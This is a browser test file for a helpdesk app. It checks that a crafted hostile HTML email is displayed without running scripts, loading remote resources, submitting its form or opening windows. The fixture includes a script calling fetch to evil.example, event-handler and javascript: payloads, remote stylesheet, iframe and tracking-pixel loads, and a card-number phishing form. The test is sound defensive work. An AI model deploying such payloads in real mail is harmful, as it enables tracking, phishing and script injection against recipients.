import fs from "node:fs";
import { expect, it } from "vitest";
import { openDesk, openTicket, type DeskPage } from "./desk-page.ts";
import { withClient } from "#tests/setup/running-app.ts";
import { startBrowserTest } from "./start-browser-test.ts";
import { takePicture } from "./take-picture.ts";

declare global {
  interface Window {
    __remixRouter?: { navigate(path: string): Promise<void> };
  }
}

const test = startBrowserTest();

const hostile = `From: Eve <eve@evil.example>
To: Support <support@shop.example>
Subject: A mail that wants out
Message-ID: <out@evil.example>
Date: Mon, 5 Oct 2026 10:00:00 +0200
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css);
body { background: url(https://evil.example/c.png) }</style><meta http-equiv="refresh" content="0;url=https://evil.example/d"></head>
<body onload="top.ran='body'"><h1>Invoice</h1><script>top.ran = 'script'; fetch('https://evil.example/e')</script>
<img src="https://evil.example/open.gif" width="40" height="40" alt="our logo"><img src="x" onerror="top.ran='onerror'">
<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/g"></object>
<video autoplay src="https://evil.example/h"></video><a href="javascript:top.ran='link'">pay now</a>
<form action="https://evil.example/i"><input name="card" placeholder="card number"><button>Log in</button></form>
<p style="position:fixed;inset:0;background:url('https://evil.example/j')">cover</p><p>The end.</p></body></html>
`.replaceAll("\n", "\r\n");

async function deliver(raw: Buffer): Promise<void> {
  const envelope = { from: "evil@example.com", to: [test.running.shops[0]!.supportAddress] };
  const sent = await test.running.standin.mailbox.sendRaw(raw, envelope);
  expect(sent.state).toBe("delivered");
}

/** Whether anything of a mail ran: in its frame, in the app or in the admin around both. */
async function whatRan({ page }: DeskPage): Promise<unknown[]> {
  const marks = await Promise.all(
    page.frames().map((frame) => frame.evaluate(() => (window as { ran?: unknown }).ran ?? null).catch(() => null)),
  );
  return marks.filter((mark) => mark !== null);
}

it("case 39: shows a hostile mail without running or loading anything of it, and loads pictures only when asked", async () => {
  await deliver(Buffer.from(hostile));
  const visitor = await test.visitor();
  const desk = await openDesk(test.running, visitor);
  const dialogs: string[] = [];
  desk.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openTicket(desk, "A mail that wants out");
  await desk.app.getByRole("article").getByText("The end.").waitFor();
  await desk.app.getByRole("button", { name: "Show original layout" }).click();
  const mail = desk.app.frameLocator('iframe[title^="Mail from"]');
  await mail.getByRole("heading", { name: "Invoice" }).waitFor();
  await mail.getByText("pay now").click();
  await mail.getByText("The end.").waitFor();
  expect(await mail.getByRole("button").count()).toBe(0);
  expect(await mail.getByRole("textbox").count()).toBe(0);
  expect(await whatRan(desk)).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(visitor.context.pages()).toHaveLength(1);
  expect(visitor.watch.strayRequests()).toEqual([]);
  await takePicture(desk.page, "hostile-mail");

  // Asked for, the picture is fetched, and nothing else of that mail; the test answers in the place of its server.
  const fetched: string[] = [];
  await visitor.context.route("https://evil.example/**", (route) => {
    fetched.push(route.request().url());
    return route.fulfill({ contentType: "image/gif", body: Buffer.from("R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "base64") });
  });
  const loaded = desk.page.waitForResponse("https://evil.example/**");
  await desk.app.getByRole("button", { name: "Load pictures" }).click();
  await loaded;
  await mail.getByText("The end.").waitFor();
  expect(fetched).toEqual(["https://evil.example/open.gif"]);
  expect(visitor.watch.strayRequests().splice(0)).toEqual(fetched);
  expect(await whatRan(desk)).toEqual([]);
});

it("case 39: opens every mail of the corpus, in its own layout where it has one, without running or loading anything", async () => {
  const folder = "tests/mail/corpus";
  const files = fs.readdirSync(folder).filter((name) => name.endsWith(".eml"));
  const before = await readDatabase("select coalesce(max(number), 0) as n from ticket");
  for (const name of files) await deliver(fs.readFileSync(`${folder}/${name}`));
  const waiting = () => readDatabase("select count(*)::int as n from inbound_mail where state = 'received'");
  await expect.poll(waiting, { timeout: 30_000 }).toBe(0);
  const after = await readDatabase("select max(number) as n from ticket");
  expect(after - before).toBeGreaterThan(files.length / 2);

  const visitor = await test.visitor();
  const desk = await openDesk(test.running, visitor);
  let framed = 0;
  for (let number = before + 1; number <= after; number++) {
    // By way of the app itself: a whole page for each mail would take minutes.
    await desk.frame.evaluate((path) => window.__remixRouter!.navigate(path), `/app/tickets/${number}`);
    await desk.page.getByRole("heading", { level: 1, name: `#${number}` }).waitFor();
    await desk.app.getByRole("article").first().waitFor();
    const layout = desk.app.getByRole("button", { name: "Show original layout" });
    if (await layout.count()) {
      await layout.first().click();
      await desk.app.frameLocator('iframe[title^="Mail from"]').locator("body").waitFor();
      framed++;
    }
  }
  expect(framed).toBeGreaterThan(1);
  expect(await whatRan(desk)).toEqual([]);
  expect(visitor.context.pages()).toHaveLength(1);
});

const readDatabase = (text: string): Promise<number> =>
  withClient(test.running.databaseUrl, async (client) => (await client.query<{ n: number }>(text)).rows[0]!.n);
